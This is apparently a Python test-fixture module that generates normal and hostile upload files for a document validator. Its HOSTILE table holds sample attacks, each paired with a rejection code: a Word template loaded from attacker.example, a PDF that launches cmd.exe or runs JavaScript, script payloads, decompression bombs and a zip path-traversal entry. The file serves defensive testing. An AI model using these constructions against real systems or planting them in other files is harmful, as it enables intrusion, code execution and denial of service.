"""Papers as files: good ones, and a corpus of those that must not be taken."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import typst
from PIL import Image, ImageDraw, PngImagePlugin

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEETS = Path(__file__).parent / "adapters" / "sheets"
WORDS = "Tôi nhận thức rõ nhiệm vụ của công đoàn cơ sở trong nhiệm kỳ này."


def docx(
    *paragraphs: str,
    body: str = "",
    author: str = "",
    relations: str = "",
    more: dict[str, bytes] | None = None,
    types: str = "",
) -> bytes:
    """A Word file as an office program writes it, with the author in its properties."""
    text = "".join(f'<w:p><w:r><w:t xml:space="preserve">{escape(one)}</w:t></w:r></w:p>' for one in paragraphs)
    parts: dict[str, Any] = {
        "[Content_Types].xml": f"<Types>{types}</Types>",
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
        'Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" '
        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f"<w:body>{text}{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}">{relations}</Relationships>',
        "docProps/core.xml": f"<coreProperties><creator>{escape(author)}</creator></coreProperties>",
        **(more or {}),
    }
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def pdf(text: str = " ".join([WORDS] * 12), *, author: str = "Không ai") -> bytes:
    """A PDF with text in it, whose properties name an author."""
    source = f'#set document(author: "{author}", title: "{author}")\n#set page(width: 120mm)\n{text}'
    return bytes(typst.compile(source.encode()))


def scan(*, author: str = "Không ai") -> bytes:
    """A PDF of two pages without a letter of text: only pictures, as an office machine makes it."""
    first, second = (Image.new("RGB", (620, 877), shade) for shade in ("white", "ivory"))
    made = BytesIO()
    first.save(made, "PDF", save_all=True, append_images=[second], author=author, title=author)
    return made.getvalue()


def photo(
    shade: str = "white", *, author: str = "", size: tuple[int, int] = (900, 1200), turned: bool = False
) -> bytes:
    """A photo with what a phone writes beside it: who, where, and how it was held."""
    picture = Image.new("RGB", size, shade)
    ImageDraw.Draw(picture).text((40, 40), "Bài thu hoạch", fill="navy")
    exif = Image.Exif()
    exif[0x013B], exif[0x010E], exif[0x0110] = author, author, author  # artist, description, model
    if turned:
        exif[0x0112] = 6
    exif.get_ifd(0x8825)[29] = author or "2018:12:06"  # a field of the place where it was taken
    made = BytesIO()
    picture.save(made, "JPEG", exif=exif, comment=author.encode())
    return made.getvalue()


def drawing(author: str = "") -> bytes:
    """A PNG with a note in it."""
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", author)
    made = BytesIO()
    Image.new("RGBA", (300, 400), (0, 0, 0, 0)).save(made, "PNG", pnginfo=notes)
    return made.getvalue()


def relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def lying_bomb() -> bytes:
    """Its text unpacks to far more than a text can be."""
    return docx(body="<w:p>" + "<w:r/>" * 6_000_000 + "</w:p>")


def raw_pdf(catalog: str = "", *, trailer: str = "") -> bytes:
    """A PDF written by hand: one empty page."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    made, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n{one}\nendobj\n".encode()
    start = len(made)
    made += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    made += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    return made + f"trailer << /Size 4 /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF".encode()


LOCKED = f"/ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <{'41' * 32}> /U <{'42' * 32}> >>"


def _archive(parts: dict[str, bytes]) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def _huge_png() -> bytes:
    """A few kilobytes that would unpack to a picture of 400 million dots."""
    made = BytesIO()
    Image.new("1", (20_000, 20_000)).save(made, "PNG")
    return made.getvalue()


EVIL = "http://attacker.example/x.dotm"
DOCTYPE = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><w:document xmlns:w="{W}"/>'
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "empty": ("a.docx", lambda: b"", "document_empty"),
    "blank": ("a.docx", lambda: b"  \n", "document_empty"),
    "program": ("a.docx", lambda: b"MZ" + b"\0" * 500, "document_wrong_type"),
    "page": ("a.docx", lambda: b"<html><script>alert(1)</script></html>", "document_wrong_type"),
    "drawing with a script": ("a.docx", lambda: b"<svg onload='alert(1)'/>", "document_wrong_type"),
    "any archive": ("a.docx", lambda: _archive({"a.txt": b"x"}), "document_damaged"),
    "a sheet": (
        "a.docx",
        lambda: _archive({"[Content_Types].xml": b"<T/>", "xl/workbook.xml": b"<w/>"}),
        "document_wrong_type",
    ),
    "macro": ("a.docm", lambda: docx(WORDS, more={"word/vbaProject.bin": b"\0" * 99}), "document_macros"),
    "macro by its type": ("a.docx", lambda: docx(WORDS, types=MACRO_TYPE), "document_macros"),
    "embedded object": (
        "a.docx",
        lambda: docx(WORDS, more={"word/embeddings/oleObject1.bin": b"x"}),
        "document_active",
    ),
    "template from outside": ("a.docx", lambda: docx(relations=relation("attachedTemplate", EVIL)), "document_active"),
    "object from outside": ("a.docx", lambda: docx(WORDS, relations=relation("oleObject", EVIL)), "document_active"),
    "page inside": (
        "a.docx",
        lambda: docx(WORDS, relations=relation("aFChunk", "x.html", "Internal")),
        "document_active",
    ),
    "entities": ("a.docx", lambda: docx(more={"word/document.xml": DOCTYPE.encode()}), "document_bomb"),
    "deep": ("a.docx", lambda: docx(body="<w:tbl>" * 5_000), "document_bomb"),
    "bomb": ("a.docx", lambda: lying_bomb(), "document_bomb"),
    "path inside": ("a.docx", lambda: docx(WORDS, more={"../../evil.xml": b"x"}), "document_damaged"),
    "cut short": ("a.docx", lambda: docx(WORDS)[:-400], "document_damaged"),
    "password": ("a.docx", lambda: (SHEETS / "password.xlsx").read_bytes(), "document_password"),
    "old Word": ("a.doc", lambda: (SHEETS / "not-a-book.ole").read_bytes(), "document_old_word"),
    "PDF with a script": ("a.pdf", lambda: raw_pdf("/OpenAction << /S /JavaScript /JS (a()) >>"), "document_active"),
    "PDF that starts a program": (
        "a.pdf",
        lambda: raw_pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "document_active",
    ),
    "PDF with a password": ("a.pdf", lambda: raw_pdf(trailer=LOCKED), "document_password"),
    "PDF cut short": ("a.pdf", lambda: pdf()[:200], "document_damaged"),
    "PDF in name alone": ("a.pdf", lambda: b"%PDF-1.7 nothing follows", "document_damaged"),
    "photo cut short": ("a.jpg", lambda: photo()[:2_000], "document_damaged"),
    "photo of an iPhone": ("a.heic", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 200, "photo_heic"),
    "picture bomb": ("a.png", lambda: _huge_png(), "photo_too_large"),
    "too large": ("a.pdf", lambda: b"%PDF-1.7" + b"\0" * (20 << 20), "document_too_large"),
}
"""What must not be taken: name, what makes its content (some take a second), code of the sentence that is said."""


def hostile(kind: str) -> tuple[str, bytes, str]:
    """(name, content, code) of one of those."""
    name, make, code = HOSTILE[kind]
    return name, make(), code
